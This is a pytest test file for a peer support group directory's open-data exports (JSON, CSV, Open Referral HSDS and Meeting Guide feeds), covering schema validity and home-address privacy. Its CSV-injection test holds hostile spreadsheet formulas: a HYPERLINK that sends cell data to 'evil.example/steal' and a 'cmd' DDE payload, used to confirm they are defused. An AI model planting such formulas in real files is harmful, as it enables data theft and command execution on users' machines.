"""Open data: every group and event round-trips into each export with the same ids and contact
details; the JSON validates against its published schemas and HSDS against Open Referral's;
the CSV is safe to open in a spreadsheet; homes never leak; and a real build publishes the files."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import uuid
import zoneinfo
from datetime import date
from pathlib import Path
from typing import Any
from unittest.mock import ANY
from urllib.parse import urlsplit

import pytest
from jsonschema import Draft202012Validator, FormatChecker
from jsonschema.exceptions import ValidationError

from peerdir import languages, paths
from peerdir.models import DAYS, MEETING_GUIDE_ACCESS, Location
from peerdir.render import SiteSettings, render_site
from peerdir.render.outputs.meeting_guide import AUDIENCE_TYPES, CONFERENCE_SERVICES, LANGUAGE_TYPES, meeting_guide_day
from peerdir.render.outputs.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from peerdir.render.parts.schedule import meeting_in_words
from peerdir.render.parts.text import md_text
from peerdir.validate import Directory, load_directory

from .conftest import FIXTURES, REPO, TODAY, check_golden, links, run_cli


def readable(data_file: str | bytes) -> str:
    """A compact JSON data file, indented for its golden file (the file itself is written compact)."""
    return json.dumps(json.loads(data_file), indent=2, ensure_ascii=False) + "\n"

# Open Referral's schema, committed as test data (its README says where and when it was taken).
HSDS_SCHEMA = Path(__file__).resolve().parent / "data" / "hsds-3" / "compiled_service_with_definitions.json"
SITE_URL = "https://example.org/peer-support/"
SETTINGS = SiteSettings(today=date.fromisoformat(TODAY), site_url=SITE_URL,
                        repo_url="https://github.com/example/peer-support", site_name="Parent and carer peer support")
FILES = (paths.GROUPS_JSON, paths.GROUPS_JSON_SCHEMA, paths.EVENTS_JSON, paths.EVENTS_JSON_SCHEMA,
         paths.GROUPS_CSV, paths.HSDS_SERVICES, paths.MEETING_GUIDE)


class Exports:
    """The open-data files of one directory, parsed."""

    def __init__(self, directory: Directory, settings: SiteSettings = SETTINGS) -> None:
        self.directory = directory
        self.files = render_site(directory, settings)
        self.groups = json.loads(self.files[paths.GROUPS_JSON])
        self.events = json.loads(self.files[paths.EVENTS_JSON])
        self.hsds = json.loads(self.files[paths.HSDS_SERVICES])
        self.meetings = json.loads(self.files[paths.MEETING_GUIDE])
        raw = self.files[paths.GROUPS_CSV]
        assert isinstance(raw, bytes) and raw.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 BOM"
        self.csv_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))

    def text(self) -> str:
        """Every export as one string, for checking what must never appear in any of them."""
        return "\n".join(self.files[p].decode("utf-8-sig") if isinstance(self.files[p], bytes) else self.files[p]
                         for p in (*FILES, paths.OPEN_DATA))


def load(root: Path) -> Directory:
    result = load_directory(root)
    assert result.ok, result.problems
    return result.directory


@pytest.fixture(scope="module")
def sample() -> Exports:
    return Exports(load(REPO))


@pytest.fixture(scope="module")
def small() -> Exports:
    return Exports(load(FIXTURES / "valid"))


def with_group(directory: Directory, group_id: str, **changes: Any) -> Directory:
    groups = tuple(dataclasses.replace(g, **changes) if g.id == group_id else g for g in directory.groups)
    return dataclasses.replace(directory, groups=groups)


def by_id(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {record["id"]: record for record in records}


# --------------------------------------------------------------------------- groups.json and events.json


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_group_and_event_is_in_the_json_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    groups = by_id(exports.groups["groups"])
    assert set(groups) == {g.id for g in exports.directory.groups}
    for group in exports.directory.groups:
        exported = groups[group.id]
        assert exported["name"] == group.name and exported["status"] == group.status
        for field in ("website", "email", "phone", "phone_note", "social"):
            assert exported["contact"].get(field) == getattr(group.contact, field), (group.id, field)
        assert exported["url"] == f"{SITE_URL}groups/{group.id}/"
        assert exported["last_verified"] == group.last_verified.isoformat()
    events = by_id(exports.events["events"])
    assert set(events) == {e.id for e in exports.directory.events}
    for event in exports.directory.events:
        registration = event.register
        for field in ("url", "email", "phone"):
            expected = getattr(registration, field) if registration else None
            assert events[event.id].get("register", {}).get(field) == expected, (event.id, field)


def test_json_keeps_every_field_of_a_full_group(small: Exports) -> None:
    riverside = by_id(small.groups["groups"])["riverside-parents"]
    assert riverside["location"] == {"name": "Riverside Community Centre", "address": "1 Example Street, London",
                                     "postcode": "SW10 9NH", "lat": 51.4843, "lon": -0.1817, "approximate": False}
    assert riverside["schedule"][1] == {"day": "monday", "start": "19:00", "end": "20:30", "frequency": "monthly",
                                        "week": "first", "note": "Dads' evening"}
    assert riverside["languages"] == ["en", "ar"] and riverside["alert"] == "No meeting on 24 December"
    assert riverside["access"] == ["step-free", "hearing-loop", "children-welcome"]  # ids of vocabularies.access_needs
    assert small.groups["schema_version"] == "1.0" and small.groups["generated"] == TODAY
    assert "licence" not in small.groups  # none chosen: the page says to ask
    terms = {t["id"]: t["name"] for t in small.groups["vocabularies"]["areas"]}
    assert terms["kensington-and-chelsea"] == "Kensington and Chelsea"


def schema_of(exports: Exports, path: str) -> Draft202012Validator:
    schema = json.loads(exports.files[path])
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


@pytest.mark.parametrize("which", ["sample", "small"])
def test_json_exports_validate_against_their_published_schemas(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    schema_of(exports, paths.GROUPS_JSON_SCHEMA).validate(exports.groups)
    schema_of(exports, paths.EVENTS_JSON_SCHEMA).validate(exports.events)


def test_the_schemas_catch_what_they_promise(small: Exports) -> None:
    validator = schema_of(small, paths.GROUPS_JSON_SCHEMA)
    broken = json.loads(small.files[paths.GROUPS_JSON])
    del broken["groups"][0]["id"]
    with pytest.raises(ValidationError, match="'id' is a required property"):
        validator.validate(broken)
    home = json.loads(small.files[paths.GROUPS_JSON])
    by_id(home["groups"])["old-friends"]["location"]["address"] = "12 Private Road"
    with pytest.raises(ValidationError):
        validator.validate(home)
    versioned = json.loads(small.files[paths.EVENTS_JSON])
    versioned["schema_version"] = "2.0"
    with pytest.raises(ValidationError):
        schema_of(small, paths.EVENTS_JSON_SCHEMA).validate(versioned)


def test_a_licence_set_in_mkdocs_yml_is_published(small: Exports) -> None:
    licensed = Exports(small.directory, dataclasses.replace(SETTINGS, data_licence="CC BY 4.0"))
    assert licensed.groups["licence"] == "CC BY 4.0" and licensed.events["licence"] == "CC BY 4.0"
    schema_of(licensed, paths.GROUPS_JSON_SCHEMA).validate(licensed.groups)
    assert "reuse the data under this licence: CC BY 4\\.0" in licensed.files[paths.OPEN_DATA]


def test_without_a_site_url_page_addresses_are_relative_to_the_site(small: Exports) -> None:
    relative = Exports(small.directory, SiteSettings(today=date.fromisoformat(TODAY)))
    assert by_id(relative.groups["groups"])["dads-online"]["url"] == "groups/dads-online/"
    assert relative.groups["groups"][0]["url"] == relative.csv_rows[0]["Page on this site"]
    assert all("url" not in meeting for meeting in relative.meetings)  # the feed wants full addresses


# --------------------------------------------------------------------------- privacy


def test_a_home_never_leaks_into_any_export(small: Exports) -> None:
    home = dataclasses.replace(small.directory.group("old-friends").location, name="Sam's flat", lat=51.49123,
                               lon=-0.19456)
    exports = Exports(with_group(small.directory, "old-friends", location=home))
    everything = exports.text()
    for secret in ("Sam's flat", "Sam\\'s flat", "51.49123", "-0.19456", "51.4912", "-0.1946"):
        assert secret not in everything, secret
    assert by_id(exports.groups["groups"])["old-friends"]["location"] == {"lat": 51.49, "lon": -0.19,
                                                                          "approximate": True}
    row = next(r for r in exports.csv_rows if r["ID"] == "old-friends")
    assert (row["Venue"], row["Address"], row["Postcode"], row["Latitude"]) == ("", "", "", "51.49")


# --------------------------------------------------------------------------- groups.csv


@pytest.mark.parametrize("which", ["sample", "small"])
def test_csv_has_one_row_per_group_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    rows = {row["ID"]: row for row in exports.csv_rows}
    assert list(rows) == sorted(g.id for g in exports.directory.groups)
    for group in exports.directory.groups:
        row = rows[group.id]
        assert row["Name"] == spreadsheet_safe(group.name)
        assert row["Website"] == spreadsheet_safe(group.contact.website or "")
        assert row["E-mail"] == spreadsheet_safe(group.contact.email or "")
        assert row["Phone"] == spreadsheet_safe(group.contact.phone or "")
        assert row["Status"] == group.status
    riverside = rows.get("riverside-parents")
    if riverside:
        assert riverside["Languages"] == "English; Arabic"
        assert riverside["Types of support"] == "Peer support groups; Peer-led"


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")',
    "summary": "+SUM(1,1)",
    "organisation": "-2+3+cmd|' /C calc'!A0",
    "cost": "@SUM(A1:A9)",
    "referral": "\t=1+1",
    "alert": "\r=1+1",
}


def test_csv_injection_is_defused(small: Exports) -> None:
    exports = Exports(with_group(small.directory, "dads-online", **FORMULAS))
    row = next(r for r in exports.csv_rows if r["ID"] == "dads-online")
    assert row["Name"] == "'" + FORMULAS["name"]
    assert row["Summary"] == "'+SUM(1,1)" and row["Cost"] == "'@SUM(A1:A9)"
    assert row["Organisation"] == "'" + FORMULAS["organisation"]
    assert row["Referral"] == "'\t=1+1" and row["Notice"] == "'\r=1+1"
    numbers = {"Latitude", "Longitude"}  # written by us as numbers: "-0.19" is a number, not a formula
    for parsed in exports.csv_rows:
        for heading, cell in parsed.items():
            assert heading in numbers or not cell.startswith(FORMULA_STARTS), (heading, cell)


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-x", "'-x"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Riverside", "Riverside"), ("a=b", "a=b"), ("", ""),
])
def test_spreadsheet_safe(text: str, expected: str) -> None:
    assert spreadsheet_safe(text) == expected


# --------------------------------------------------------------------------- Open Referral (HSDS 3)


@pytest.fixture(scope="module")
def hsds_validator() -> Draft202012Validator:
    schema = json.loads(HSDS_SCHEMA.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_hsds_service_validates_against_open_referrals_schema(which: str, request, hsds_validator) -> None:
    exports: Exports = request.getfixturevalue(which)
    assert exports.hsds, "no services"
    for service in exports.hsds:
        errors = sorted(hsds_validator.iter_errors(service), key=str)
        assert not errors, f"{service['name']}: " + "; ".join(f"{list(e.path)}: {e.message}" for e in errors)
        for url in find_values(service, ("url", "website", "uri", "schedule_link", "term_uri")):
            assert re.match(r"^https?://[^\s/]+\.[^\s]+$", url), url  # `uri` needs a package jsonschema lacks


def test_the_hsds_schema_catches_a_broken_service(small: Exports, hsds_validator) -> None:
    service = json.loads(json.dumps(small.hsds[0]))
    service["status"] = "open"
    service["schedules"][0]["freq"] = "DAILY"
    service["id"] = "not-a-uuid"
    messages = {e.message for e in hsds_validator.iter_errors(service)}
    assert len(messages) == 3, messages


def find_values(value: Any, keys: tuple[str, ...]) -> list[Any]:
    if isinstance(value, dict):
        return [v for k, v in value.items() if k in keys and isinstance(v, str)] + [
            found for v in value.values() for found in find_values(v, keys)]
    if isinstance(value, list):
        return [found for item in value for found in find_values(item, keys)]
    return []


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_open_group_is_an_hsds_service_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    services = {s["name"]: s for s in exports.hsds}
    open_groups = [g for g in exports.directory.groups if g.status != "closed"]
    assert len(exports.hsds) == len(open_groups) == len(services)
    for group in open_groups:
        service = services[group.name]
        assert service["id"] == str(uuid.uuid5(uuid.UUID("401663e2-437e-4c11-989b-625c65a63fc3"),
                                               f"service:{group.id}"))
        assert service.get("email") == group.contact.email
        assert service["url"] == group.contact.website or f"{SITE_URL}groups/{group.id}/"
        assert [p["number"] for p in service.get("phones", [])] == ([group.contact.phone] if group.contact.phone else [])
        contacts = service.get("contacts", [])
        assert [c.get("email") for c in contacts] == ([group.contact.email] if group.contact.email else [None] * len(contacts))
        assert service["organization"]["name"] == (group.organisation or group.name)
        assert service["status"] == group.status.replace("-", " ")


def test_hsds_ids_are_unique_and_stable_across_builds(sample: Exports) -> None:
    later = Exports(sample.directory, SiteSettings(today=date(2027, 3, 1)))
    assert [s["id"] for s in later.hsds] == [s["id"] for s in sample.hsds]
    ids: list[str] = []

    def collect(value: Any, parent: str) -> None:
        if isinstance(value, dict):
            if "id" in value and parent not in ("organization", "taxonomy_term"):  # shared on purpose
                ids.append(value["id"])
            for key, item in value.items():
                collect(item, key)
        elif isinstance(value, list):
            for item in value:
                collect(item, parent)

    collect(sample.hsds, "")
    assert len(ids) == len(set(ids)) > len(sample.hsds)
    organisations = {}
    for service in sample.hsds:
        organisations.setdefault(service["organization"]["id"], service["organization"])
        assert organisations[service["organization"]["id"]] == service["organization"]


def test_an_hsds_organisation_says_how_many_groups_it_runs_not_which(sample: Exports) -> None:
    """Each service carries its organisation: a description naming every group it runs made
    services.json grow with the square of an organisation's groups."""
    first, second = [g for g in sample.directory.groups if g.organisation and g.status != "closed"][:2]
    exports = Exports(with_group(sample.directory, second.id, organisation=first.organisation))
    services_of: dict[str, list[str]] = {}
    for service in exports.hsds:
        services_of.setdefault(service["organization"]["id"], []).append(service["name"])
    organisations = {s["organization"]["id"]: s["organization"] for s in exports.hsds}
    groups = {g.name: g for g in exports.directory.groups}
    for organisation_id, names in services_of.items():
        description = organisations[organisation_id]["description"]
        if groups[names[0]].organisation is None:  # a group on its own: its summary
            assert description == groups[names[0]].summary
        else:
            count = "1 group" if len(names) == 1 else f"{len(names)} groups"
            assert description == f"Runs {count} listed in Parent and carer peer support."
    assert organisations[next(s["organization"]["id"] for s in exports.hsds if s["name"] == second.name)] == {
        "id": ANY, "name": first.organisation, "description": "Runs 2 groups listed in Parent and carer peer support."}


def test_hsds_schedules_follow_the_meetings(small: Exports) -> None:
    services = {s["name"]: s for s in small.hsds}
    riverside = services["Riverside Parents Group"]["schedules"]
    assert {k: riverside[0][k] for k in ("freq", "interval", "byday", "opens_at", "closes_at")} == {
        "freq": "WEEKLY", "interval": 1, "byday": "WE", "opens_at": "10:30", "closes_at": "12:00"}
    assert {k: riverside[1][k] for k in ("freq", "byday", "opens_at")} == {"freq": "MONTHLY", "byday": "1MO",
                                                                         "opens_at": "19:00"}
    assert riverside[2] == {"id": riverside[2]["id"], "service_id": riverside[2]["service_id"],
                            "description": "No meetings in school holidays"}
    circle = services["The Old Friends Circle"]["schedules"][0]
    assert (circle["interval"], circle["dtstart"], circle["byday"]) == (2, "2026-01-08", "TH")
    address = services["Riverside Parents Group"]["service_at_locations"][0]["location"]["addresses"][0]
    assert (address["address_1"], address["city"], address["postal_code"], address["country"]) == (
        "1 Example Street", "London", "SW10 9NH", "GB")


def test_closed_groups_are_in_the_json_and_csv_but_not_the_feeds(small: Exports) -> None:
    exports = Exports(with_group(small.directory, "dads-online", status="closed"))
    assert by_id(exports.groups["groups"])["dads-online"]["status"] == "closed"
    assert any(row["ID"] == "dads-online" and row["Status"] == "closed" for row in exports.csv_rows)
    assert "Dads Online" not in {s["name"] for s in exports.hsds}
    assert not [m for m in exports.meetings if m["slug"].startswith("dads-online")]


# --------------------------------------------------------------------------- Meeting Guide

# Facts from Code4Recovery, committed as test data (tests/data/meeting-guide/README.md says where
# from and when): the specification's list of type codes (code4recovery/spec data/types.json,
# commit 404117a, 6 March 2026), and the video-call services whose links its clients accept as a
# `conference_url` (TSML UI, commit fef58db, 29 June 2026; the same list as the 12 Step Meeting List
# plugin's, which "matches Meeting Guide app").
MEETING_GUIDE_DATA = Path(__file__).resolve().parent / "data" / "meeting-guide"
SPEC_TYPES: dict[str, dict[str, str]] = json.loads((MEETING_GUIDE_DATA / "types.json").read_text(encoding="utf-8"))
CONFERENCE_PROVIDERS: dict[str, str] = json.loads(
    (MEETING_GUIDE_DATA / "conference-providers.json").read_text(encoding="utf-8"))
CLOCK = r"([01]\d|2[0-3]):[0-5]\d"


def conference_provider(url: str) -> str | None:
    """The service the clients recognise in a `conference_url`: its host, or a subdomain of it."""
    host = urlsplit(url).hostname or ""
    return next((name for domain, name in CONFERENCE_PROVIDERS.items()
                 if host == domain or host.endswith("." + domain)), None)


def spec_problems(feed: list[dict[str, Any]]) -> list[str]:
    """Every way the feed breaks the Meeting Guide specification, or what its clients need for a
    meeting to be active."""
    slugs = [m.get("slug") for m in feed]
    unique = [] if len(slugs) == len(set(slugs)) else ["Required Fields: slug must be unique to the data set"]
    return unique + [f"{m.get('slug')}: {problem}" for m in feed for problem in meeting_problems(m)]


def meeting_problems(m: dict[str, Any]) -> list[str]:
    """The rules one meeting breaks, each named by the section of code4recovery/spec's README it comes from."""
    types, url, phone = set(m.get("types", [])), m.get("conference_url"), m.get("conference_phone")
    # Online Meeting Fields: an online meeting needs a conference_url or conference_phone "to be
    # considered active"; TSML UI counts a meeting active when it is online that way or in person
    # (not TC, address not approximate). The one inactive meeting we list is a closed venue, TC.
    in_person = "TC" not in types and m.get("approximate") == "no"
    closed_venue = "TC" in types and m.get("approximate") == "no" and not (url or phone)
    checks = [
        (isinstance(m.get("name"), str) and 0 < len(m["name"]) <= 255, "Required Fields: name, 255 characters max"),
        (isinstance(m.get("slug"), str) and re.fullmatch(r"[A-Za-z0-9_-]{1,64}", m["slug"]) is not None,
         "Required Fields: slug, URL-safe, 64 characters max"),
        (m.get("day") in range(7) and not isinstance(m.get("day"), bool), "Time Fields: day, 0 (Sunday) to 6"),
        (re.fullmatch(CLOCK, str(m.get("time"))) is not None, "Time Fields: time, HH:MM"),
        ("end_time" not in m or re.fullmatch(CLOCK, str(m["end_time"])) is not None, "Time Fields: end_time, HH:MM"),
        (m.get("timezone", "UTC") in zoneinfo.available_timezones(), "Time Fields: timezone in tz database format"),
        (types <= set(SPEC_TYPES), f"Meeting Types: only codes of the list, not {sorted(types - set(SPEC_TYPES))}"),
        (bool(m.get("formatted_address")), "Geographic Fields: formatted_address"),
        (m.get("approximate") in ("yes", "no"), 'Optional Fields: approximate is "yes" or "no"'),
        (m.get("approximate") == "yes" or {"latitude", "longitude"} <= set(m),
         "Geographic Fields: in person, a specific address, with its position"),
        (url is None or (url.startswith("https://") and conference_provider(url) is not None),
         f"conference_url: a videoconferencing service the clients accept, not {url}"),
        (phone is None or (re.fullmatch(r"\+?[\d,*#]+", phone) is not None and len(re.sub(r"\D", "", phone)) >= 10),
         f"conference_phone: numeric (+ , * # allowed), 10 digits or more (TSML UI), not {phone}"),
        ("conference_url_notes" not in m or url is not None, "conference_url_notes only with a conference_url"),
        ("conference_phone_notes" not in m or phone is not None, "conference_phone_notes only with a conference_phone"),
        (in_person or bool(url or phone) or closed_venue, "Online Meeting Fields: active, or a closed venue (TC)"),
        (re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", str(m.get("updated", "2000-01-01 00:00:00"))) is not None,
         "Optional Fields: updated, YYYY-MM-DD HH:MM:SS"),
        (not re.search(r"<[A-Za-z/!]", m.get("notes", "")), "Recommended Fields: notes are plain text, no HTML"),
        (all(str(m.get(k, "https://")).startswith("https://") for k in ("url", "feedback_url", "entity_website_url")),
         "url, feedback_url and entity_website_url are full https:// addresses"),
        ("entity" in m or not any(k.startswith("entity_") for k in m), "Service Entity Fields: entity with entity_*"),
    ]
    return [rule for ok, rule in checks if not ok]


def test_meeting_guide_golden(small: Exports) -> None:
    check_golden("open-data/meeting-guide.json", readable(small.files[paths.MEETING_GUIDE]))


def test_open_data_page_golden(small: Exports) -> None:
    check_golden("open-data/index.md", small.files[paths.OPEN_DATA])


@pytest.mark.parametrize("day, number", [("sunday", 0), ("monday", 1), ("tuesday", 2), ("wednesday", 3),
                                         ("thursday", 4), ("friday", 5), ("saturday", 6)])
def test_meeting_guide_counts_days_from_sunday(day: str, number: int, small: Exports) -> None:
    meeting = dataclasses.replace(small.directory.group("riverside-parents").schedule[0], day=day)
    assert meeting_guide_day(meeting) == number
    assert len(DAYS) == 7


def test_the_codes_and_services_we_use_are_the_specifications(small: Exports) -> None:
    # Each language's code is the one the specification's list gives that language.
    for language, code in LANGUAGE_TYPES.items():
        name = {"fil": "Tagalog"}.get(language, languages.english_name(language))  # CLDR: Filipino
        assert name.removesuffix(" Bokmål").removesuffix(" Nynorsk") == SPEC_TYPES[code]["en"], (language, code)
        assert languages.language_tag(SPEC_TYPES[code]["en"]).split("-")[0] in LANGUAGE_TYPES, code  # and back
    # Each access need's code is one of the list's, for wheelchair access, children and the like.
    assert {code: SPEC_TYPES[code]["en"] for code in MEETING_GUIDE_ACCESS} == {
        "X": "Wheelchair Access", "XB": "Wheelchair-Accessible Bathroom", "CF": "Child-Friendly",
        "BA": "Babysitting Available", "FF": "Fragrance Free"}
    assert {code: SPEC_TYPES[code]["en"] for code in AUDIENCE_TYPES.values()} == {"M": "Men", "W": "Women"}
    assert SPEC_TYPES["TC"]["en"] == "Location Temporarily Closed" and "ONL" not in SPEC_TYPES
    assert set(CONFERENCE_SERVICES) == set(CONFERENCE_PROVIDERS)


@pytest.mark.parametrize("which", ["sample", "small"])
def test_meeting_guide_feed_follows_the_specification(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    assert exports.meetings and spec_problems(exports.meetings) == []


def test_the_specification_checks_catch_what_they_promise(small: Exports) -> None:
    good = small.meetings[0]
    assert spec_problems([good, good]) == ["Required Fields: slug must be unique to the data set"]
    broken = [
        ({"types": ["EN", "ONL"]}, "Meeting Types"),                       # no such code in the list
        ({"slug": "two words"}, "slug, URL-safe"),
        ({"day": 7}, "day, 0 (Sunday) to 6"),
        ({"time": "7pm"}, "time, HH:MM"),
        ({"approximate": "yes"}, "Online Meeting Fields"),                 # not in person, and no way to join
        ({"approximate": "yes", "conference_url": "https://riverside.example.org/parents"}, "conference_url"),
        ({"approximate": "yes", "conference_phone": "116123"}, "conference_phone"),  # too short for the clients
        ({"types": ["TC"], "conference_phone": "020 7946 0000"}, "conference_phone: numeric"),
        ({"conference_phone_notes": "Press 1"}, "conference_phone_notes only with"),
        ({"notes": "<b>Welcome</b>"}, "no HTML"),
    ]
    for changes, rule in broken:
        problems = spec_problems([{**good, **changes}])
        assert problems and all(rule in problem for problem in problems), (changes, problems)


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_regular_meeting_is_in_the_feed_or_on_the_page_with_why(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    listed = {(m["url"].split("/")[-2], m["day"], m["time"]) for m in exports.meetings}
    page = exports.files[paths.OPEN_DATA]
    left_out = page[page.index("## Meeting Guide feed"):].splitlines()
    groups = {g.id: g for g in exports.directory.groups}
    for group in (g for g in exports.directory.groups if g.status != "closed"):
        for meeting in group.schedule:
            key = (group.id, (DAYS.index(meeting.day) + 1) % 7, f"{meeting.start:%H:%M}")
            words = md_text(meeting_in_words(meeting))
            on_page = [line for line in left_out if f"groups/{group.id}.md>): {words} (" in line]
            assert (key in listed) != bool(on_page), (key, on_page)
            assert key not in listed or meeting.frequency == "weekly"
    for meeting in exports.meetings:
        group = groups[meeting["url"].split("/")[-2]]
        assert group.status != "closed" and meeting["slug"].startswith(group.id + "-") and meeting["name"] == group.name
        assert meeting.get("contact_1_email") == group.contact.email
        assert meeting.get("contact_1_phone") == group.contact.phone
        assert (f"Website: {group.contact.website}" in meeting["notes"]) == bool(group.contact.website)
        assert ("TC" in meeting.get("types", [])) == (group.status == "temporarily-closed")
        if meeting["approximate"] == "yes":
            assert not {"latitude", "longitude", "location"} & set(meeting)
        else:
            assert "in-person" in group.formats and group.location and not group.location.approximate
            assert meeting["formatted_address"].startswith(group.location.address + ", ")
            assert meeting["latitude"] == group.location.lat


def feed_with(small: Exports, group_id: str, **changes: Any) -> tuple[dict[str, dict[str, Any]], str]:
    """The feed, by slug, and the open-data page, after changing one group of the small directory."""
    exports = Exports(with_group(small.directory, group_id, **changes))
    assert spec_problems(exports.meetings) == []
    return {m["slug"]: m for m in exports.meetings}, exports.files[paths.OPEN_DATA]


def test_meeting_guide_types_and_places(small: Exports) -> None:
    meetings = {m["slug"]: m for m in small.meetings}
    assert set(meetings) == {"riverside-parents-wednesday-1030"}
    wednesday = meetings["riverside-parents-wednesday-1030"]
    assert (wednesday["day"], wednesday["time"], wednesday["end_time"]) == (3, "10:30", "12:00")
    assert wednesday["formatted_address"] == "1 Example Street, London, SW10 9NH, UK"
    # English and Arabic; step-free (X) and children welcome (CF), of its access needs; no code for a hearing loop.
    assert (wednesday["types"], wednesday["region"], wednesday["approximate"]) == (
        ["EN", "AR", "X", "CF"], "Kensington and Chelsea", "no")
    # It meets in person: its number is for enquiries, not a way to join the meeting by phone.
    assert "conference_phone" not in wednesday and "conference_url" not in wednesday
    # Online, its website opens no video call: left out, and the page says why.
    assert "- [Dads Online](<../groups/dads-online.md>): Every Tuesday, 20:00 to 21:00 (online, with no link to a " \
           "video call)" in small.files[paths.OPEN_DATA]


ZOOM = "https://us02web.zoom.us/j/81234567890"


def test_an_online_group_with_a_video_call_link_is_in_the_feed(small: Exports) -> None:
    contact = dataclasses.replace(small.directory.group("dads-online").contact, social=ZOOM)
    meetings, page = feed_with(small, "dads-online", contact=contact)
    online = meetings["dads-online-tuesday-2000"]
    assert (online["conference_url"], online["formatted_address"], online["approximate"]) == (ZOOM, "UK", "yes")
    assert online["types"] == ["M", "EN"]  # its only audience is dads and male carers; BSL has no code
    assert "Dads Online" not in page[page.index("not in the feed at present"):]
    # In person and online: the venue, and the call.
    riverside = small.directory.group("riverside-parents")
    hybrid, _ = feed_with(small, "riverside-parents", formats=("in-person", "online"),
                          contact=dataclasses.replace(riverside.contact, website="https://meet.google.com/abc-defg-hij"))
    both = hybrid["riverside-parents-wednesday-1030"]
    assert (both["conference_url"], both["approximate"]) == ("https://meet.google.com/abc-defg-hij", "no")
    # A host that only ends like a service's is not that service.
    lookalike = dataclasses.replace(small.directory.group("dads-online").contact, social="https://notzoom.us/j/1")
    assert "dads-online-tuesday-2000" not in feed_with(small, "dads-online", contact=lookalike)[0]


def test_a_group_that_meets_by_phone_gives_its_number_to_dial(small: Exports) -> None:
    contact = dataclasses.replace(small.directory.group("dads-online").contact, phone="+44 (0)20 7946 0001",
                                  phone_note="Press 2 to join")
    meetings, _ = feed_with(small, "dads-online", formats=("phone",), contact=contact)
    by_phone = meetings["dads-online-tuesday-2000"]
    assert (by_phone["conference_phone"], by_phone["conference_phone_notes"]) == ("+442079460001", "Press 2 to join")
    assert by_phone["approximate"] == "yes" and "conference_url" not in by_phone
    short = dataclasses.replace(contact, phone="116 123")
    meetings, page = feed_with(small, "dads-online", formats=("phone",), contact=short)
    assert "dads-online-tuesday-2000" not in meetings and "(by phone, with no number to dial)" in page


@pytest.mark.parametrize("changes, reason", [
    ({"formats": ("email", "social-media")}, "by e-mail, text or social media"),
    ({"formats": ("in-person",), "location": Location(name="Hall", lat=51.5, lon=-0.2)}, "the venue has no street address"),
    ({"status": "temporarily-closed", "social": ZOOM}, "temporarily closed"),
])
def test_meetings_the_format_cannot_hold_are_left_out_with_the_reason(changes: dict[str, Any], reason: str,
                                                                     small: Exports) -> None:
    group = small.directory.group("dads-online")
    contact = dataclasses.replace(group.contact, social=changes.pop("social", None))
    meetings, page = feed_with(small, "dads-online", contact=contact, **changes)
    assert "dads-online-tuesday-2000" not in meetings
    assert f"Every Tuesday, 20:00 to 21:00 ({md_text(reason)})" in page


def test_a_home_is_in_the_feed_only_online_and_only_as_its_area(small: Exports) -> None:
    weekly = dataclasses.replace(small.directory.group("old-friends").schedule[0], frequency="weekly", starting=None)
    meetings, page = feed_with(small, "old-friends", schedule=(weekly,), status="active")
    assert "old-friends-thursday-1930" not in meetings and "Every Thursday, from 19:30 (meets in a home)" in page
    contact = dataclasses.replace(small.directory.group("old-friends").contact, website=ZOOM)
    meetings, _ = feed_with(small, "old-friends", schedule=(weekly,), status="active",
                            formats=("in-person", "online"), contact=contact)
    home = meetings["old-friends-thursday-1930"]
    assert (home["formatted_address"], home["approximate"], home["conference_url"]) == (
        "Kensington and Chelsea, UK", "yes", ZOOM)
    assert not {"latitude", "longitude", "location"} & set(home)


def test_a_temporarily_closed_venue_is_listed_closed_with_no_way_to_join(small: Exports) -> None:
    riverside = small.directory.group("riverside-parents")
    meetings, _ = feed_with(small, "riverside-parents", status="temporarily-closed", formats=("in-person", "online"),
                            contact=dataclasses.replace(riverside.contact, social=ZOOM))
    closed = meetings["riverside-parents-wednesday-1030"]
    # TC with a way to join would read as "meets online now" to TSML UI and the 12 Step Meeting List plugin.
    assert closed["types"][0] == "TC" and closed["approximate"] == "no" and "conference_url" not in closed


def test_meeting_guide_slugs_stay_unique_for_two_meetings_at_the_same_time(small: Exports) -> None:
    meeting = small.directory.group("riverside-parents").schedule[0]
    meetings, _ = feed_with(small, "riverside-parents", schedule=(meeting, meeting))
    assert list(meetings) == ["riverside-parents-wednesday-1030", "riverside-parents-wednesday-1030-2"]


# --------------------------------------------------------------------------- a real build


def test_a_real_build_publishes_the_open_data_files(small_project: Path) -> None:
    result = run_cli("--root", str(small_project), "build", "--today", TODAY, "--site-url", SITE_URL)
    assert result.code == 0, result.stderr
    site = small_project / "site"
    for path in FILES:
        assert (site / path).is_file(), path
    feed = json.loads((site / paths.MEETING_GUIDE).read_text(encoding="utf-8"))
    check_golden("open-data/meeting-guide.json", readable((site / paths.MEETING_GUIDE).read_text(encoding="utf-8")))
    assert {m["url"] for m in feed} <= {f"{SITE_URL}{paths.url_of(paths.group_page(g))}"
                                        for g in ("riverside-parents", "dads-online")}
    page = (site / "data" / "index.html").read_text(encoding="utf-8")
    files = {href for href in links(page) if re.fullmatch(r"[^#:]+\.(?:json|csv)", href)}
    assert files == {paths.link(paths.OPEN_DATA, p) for p in FILES}
    for link in files:
